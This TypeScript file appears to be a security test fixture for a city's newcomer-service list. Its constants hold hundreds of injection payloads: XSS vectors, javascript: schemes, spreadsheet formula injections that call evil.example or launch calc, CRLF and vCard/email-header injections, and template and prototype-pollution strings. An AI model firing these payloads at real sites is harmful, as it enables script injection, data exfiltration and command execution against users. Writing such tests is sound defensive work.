/**
 * What somebody might put into a city's list to get out of its text: each would set `window.hurt`, lead where no link of ours
 * leads, or be a formula, a header or a line of its own.
 */

const SCRIPTS = [
  '<script>hurt=1</script>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=hurt=1>',
  '<img src=x onerror="hurt=1">',
  '<svg onload=hurt=1>',
  '<svg><script>hurt=1</script></svg>',
  '<svg><animate onbegin=hurt=1 attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=hurt=1>#x">',
  '<math><mtext><table><mglyph><style><img src=x onerror=hurt=1>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=hurt=1>',
  '<iframe srcdoc="<script>parent.hurt=1</script>">',
  '<iframe src=javascript:parent.hurt=1>',
  '<object data=javascript:hurt=1>',
  '<embed src=javascript:hurt=1>',
  '<details open ontoggle=hurt=1>',
  '<video><source onerror=hurt=1>',
  '<body onload=hurt=1>',
  '<input autofocus onfocus=hurt=1>',
  '<marquee onstart=hurt=1>',
  '<a href=javascript:hurt=1>x</a>',
  '<form action=javascript:hurt=1><button>x',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import"//evil.example/x.css";</style>',
  '<template><script>hurt=1</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=hurt=1>">',
  '<form id=customElements><input name=define>',
  '<newcomer-service-finder src=//evil.example/></newcomer-service-finder>',
  '<slot name=x onslotchange=hurt=1>',
];

/** What stands around a text where it ends up. */
const BREAKOUTS = ['', '"', "'", '`', '">', "'>", '-->', ']]>', '</script>', '</style>', '</title>', '</textarea>', '\u2028', '&quot;&gt;'];

const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  '\u0001javascript:',
  ' javascript:',
  'javascript&colon;',
  'vbscript:',
  'data:text/html,',
  'blob:',
  'file:///',
  'filesystem:',
  'view-source:javascript:',
  'intent:',
  '//',
  '\\\\',
  'https:javascript:',
  'ftp://',
  'ws://',
  'about:',
];
const AFTER_SCHEME = ['hurt=1', '<script>hurt=1</script>', '//evil.example/%0ahurt=1', 'evil.example@good.example'];

const FORMULA_STARTS = ['=', '+', '-', '@', '\t=', '\r=', ' =', '\u00a0=', '\u3000=', '＝', '＋', '－', '＠', '"=', "'\n="];
const FORMULAS = ['1+1', 'HYPERLINK("https://evil.example","x")', "cmd|' /C calc'!A0", 'SUM(A1:A9)', 'WEBSERVICE("//evil.example")'];

const LINES = ['\r\n', '\n', '\r', '\u0085', '\u2028', '\\n', '%0d%0a', '\r\n '];
const FIELDS = [
  'BEGIN:VCARD',
  'END:VCARD\r\nBEGIN:VCARD',
  'TEL:+19005550100',
  'URL:javascript:hurt=1',
  'END:VEVENT',
  'ATTACH:https://evil.example',
  'BEGIN:VALARM',
  'Bcc: a@evil.example',
  'Subject: x',
];

const TEMPLATES = [
  '${hurt=1}',
  '{{hurt=1}}',
  '{{constructor.constructor("hurt=1")()}}',
  '<%= hurt=1 %>',
  '#{hurt=1}',
  '[[hurt]]',
  '%%hurt%%',
  '__proto__',
  'constructor',
  '\\u003cscript>hurt=1',
  '\\x3cscript>hurt=1',
  '&lt;script&gt;hurt=1&lt;/script&gt;',
  '&#60;script&#62;hurt=1',
  '%3Cscript%3Ehurt=1',
  '+ADw-script+AD4-hurt=1',
  '\u202egnp.exe',
  '\u2066javascript:hurt=1\u2069',
  '\ud800<script>hurt=1</script>',
  '\u0000<script>hurt=1</script>',
  '＜script＞hurt=1＜/script＞',
  '<scr\u00adipt>hurt=1',
  '<<script>hurt=1//<</script>',
];

const each = <T>(left: readonly T[], right: readonly T[], join: (a: T, b: T) => string) =>
  left.flatMap((a) => right.map((b) => join(a, b)));

export const PAYLOADS: readonly string[] = [
  ...new Set([
    ...each(BREAKOUTS, SCRIPTS, (end, script) => `${end}${script}`),
    ...each(
      ['"', "'", ' '],
      ['onmouseover=hurt=1 x=', 'autofocus onfocus=hurt=1 x=', 'style=position:fixed x='],
      (end, attribute) => `x${end} ${attribute}${end}`,
    ),
    ...each(SCHEMES, AFTER_SCHEME, (scheme, rest) => `${scheme}${rest}`),
    ...each(FORMULA_STARTS, FORMULAS, (start, formula) => `${start}${formula}`),
    ...each(LINES, FIELDS, (line, field) => `Kitchen${line}${field}`),
    ...TEMPLATES,
  ]),
];
